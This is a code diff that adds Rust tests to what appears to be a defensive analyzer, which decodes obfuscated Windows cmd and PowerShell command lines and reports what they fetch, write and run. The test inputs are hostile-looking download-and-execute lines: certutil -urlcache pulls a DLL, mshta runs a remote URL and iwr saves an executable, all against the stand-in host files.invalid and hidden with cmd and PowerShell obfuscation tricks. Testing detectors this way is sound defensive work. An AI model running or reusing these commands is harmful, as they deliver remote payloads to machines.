@@ -349,6 +349,52 @@ fn what_grows_without_end_is_cut() {
     assert!(read(&calls).cut);
 }
 
+#[test]
+fn set_computes_whole_numbers() {
+    does(
+        "cmd /v:on /c set /a p=80+8000&&call certutil -urlcache -f http://files.invalid:!p!/a a.dll",
+        &[fetch("http://files.invalid:8080/a", Some("a.dll"))],
+    );
+}
+
+#[test]
+fn for_reads_the_lines_that_a_command_shows() {
+    does(
+        "cmd /c for /f \"tokens=2 delims=,\" %a in ('echo x,http://files.invalid/a,y') do certutil -urlcache -f %a a.dll",
+        &[fetch("http://files.invalid/a", Some("a.dll"))],
+    );
+    does(
+        "cmd /c for /f \"tokens=1,2*\" %i in (\"mshta http://files.invalid/x and more\") do %i %j",
+        &[run("mshta http://files.invalid/x"), fetch("http://files.invalid/x", None)],
+    );
+    does(
+        "cmd /c echo http://files.invalid/a>u.txt&for /f %a in (u.txt) do certutil -urlcache -f %a a.dll",
+        &[write("u.txt", "http://files.invalid/a\r\n"), fetch("http://files.invalid/a", Some("a.dll"))],
+    );
+}
+
+#[test]
+fn strings_in_double_quotes_name_variables() {
+    shows(
+        "powershell $h='files.invalid';$n=\"a\";iwr \"http://$h/${n}.exe?`n\" -OutFile b.exe",
+        "$h='files.invalid';$n='a';iwr 'http://files.invalid/a.exe?\n' -OutFile b.exe",
+    );
+    let escaped = read("powershell $h='x';iwr \"http://`$h/a\"");
+    assert!(escaped.layers.iter().all(|layer| !layer.text.contains("http://x/")), "{:#?}", escaped.layers);
+}
+
+#[test]
+fn a_file_that_a_macro_wrote_is_run_by_its_name() {
+    let decoded = with_cx(|cx| {
+        let mut desk = Desk::new();
+        let lines = "set u=http://files.invalid/a\r\ncertutil -urlcache -f %u% a.dll\r\n";
+        desk.write("..\\oxnv1.bat", lines, false, cx)?;
+        desk.read_in("..\\oxnv1.bat", cx)
+    });
+    let facts = decoded.unwrap().facts;
+    assert!(facts.contains(&fetch("http://files.invalid/a", Some("a.dll"))), "{facts:?}");
+}
+
 fn any_command() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
         prop::sample::select(vec![
